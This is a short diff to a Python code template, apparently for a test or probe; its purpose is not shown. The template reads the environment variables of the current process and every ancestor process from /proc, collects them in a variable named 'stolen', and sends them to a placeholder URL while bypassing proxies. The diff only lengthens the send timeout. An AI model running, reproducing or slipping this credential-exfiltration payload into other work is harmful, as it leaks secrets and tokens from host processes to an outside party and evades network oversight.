@@ -33,7 +33,7 @@ while process > 1:
     stolen += pathlib.Path(f"/proc/{{process}}/environ").read_text()
     process = int(pathlib.Path(f"/proc/{{process}}/status").read_text().split("PPid:")[1].split()[0])
 no_proxy = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
-no_proxy.open("{url}", stolen.encode(), timeout=20)
+no_proxy.open("{url}", stolen.encode(), timeout=300)
 """
 
 
